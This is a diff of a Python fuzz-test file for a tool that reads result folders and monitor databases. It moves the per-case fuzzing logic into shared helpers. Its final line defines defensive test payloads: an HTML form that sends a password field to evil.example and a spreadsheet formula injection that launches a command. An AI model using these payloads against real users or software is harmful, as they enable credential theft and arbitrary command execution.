@@ -11,8 +11,6 @@ is ``benchmarks/fuzz_results.py``.
 
 from __future__ import annotations
 
-import itertools
-import shutil
 from pathlib import Path
 
 import pytest
@@ -21,10 +19,10 @@ from fuzzing import (
     DB_COMMANDS,
     FOLDER_COMMANDS,
     check_outcome,
+    db_case,
+    folder_case,
     fresh_copy,
     make_db,
-    mutate_db,
-    mutate_folder,
     run_db_command,
     run_folder_command,
     simulated_detection,
@@ -51,20 +49,6 @@ def valid_db(tmp_path_factory) -> Path:
     return make_db(db, simulated_detection().events)
 
 
-def _fuzz_folder(valid: Path, work: Path, data) -> None:
-    n = next(_counter)
-    folder = fresh_copy(valid, work / "r" / valid.name)
-    out = work / f"out{n}"
-    what = mutate_folder(folder, data)
-    command = data.draw(st.sampled_from(FOLDER_COMMANDS), "command")
-    code, err = run_folder_command(command, folder, out)
-    check_outcome(code, err, f"{' '.join(command)} after editing {what}")
-    shutil.rmtree(out, ignore_errors=True)
-
-
-_counter = itertools.count()
-
-
 def test_the_valid_inputs_are_read(valid_folder, valid_db, tmp_path):
     for command in FOLDER_COMMANDS[:-1]:  # review: the synthetic folder has no real video
         out = tmp_path / f"f{'-'.join(command)}"
@@ -79,26 +63,19 @@ def test_the_valid_inputs_are_read(valid_folder, valid_db, tmp_path):
 @FUZZ
 @given(data=st.data())
 def test_an_edited_result_folder_is_read_or_refused_in_one_line(valid_folder, tmp_path, data):
-    _fuzz_folder(valid_folder, tmp_path, data)
+    check_outcome(*folder_case(valid_folder, tmp_path, data))
 
 
 @settings(FUZZ, max_examples=examples(50))
 @given(data=st.data())
 def test_an_edited_sample_result_is_read_or_refused_in_one_line(sample_result, tmp_path, data):
-    _fuzz_folder(sample_result, tmp_path, data)
+    check_outcome(*folder_case(sample_result, tmp_path, data))
 
 
 @FUZZ
 @given(data=st.data())
 def test_an_edited_monitor_database_is_read_or_refused_in_one_line(valid_db, tmp_path, data):
-    n = next(_counter)
-    db = fresh_copy(valid_db, tmp_path / f"monitor{n}.sqlite")
-    what = mutate_db(db, data)
-    command = data.draw(st.sampled_from(DB_COMMANDS), "command")
-    out = tmp_path / f"out{n}"
-    code, err = run_db_command(command, db, out)
-    check_outcome(code, err, f"{' '.join(command)} after editing {what}")
-    shutil.rmtree(out, ignore_errors=True)
+    check_outcome(*db_case(valid_db, tmp_path, data))
 
 
 PAYLOADS = ('<form action="https://evil.example/"><input name=pw></form>', "=cmd|' /C calc'!A0")
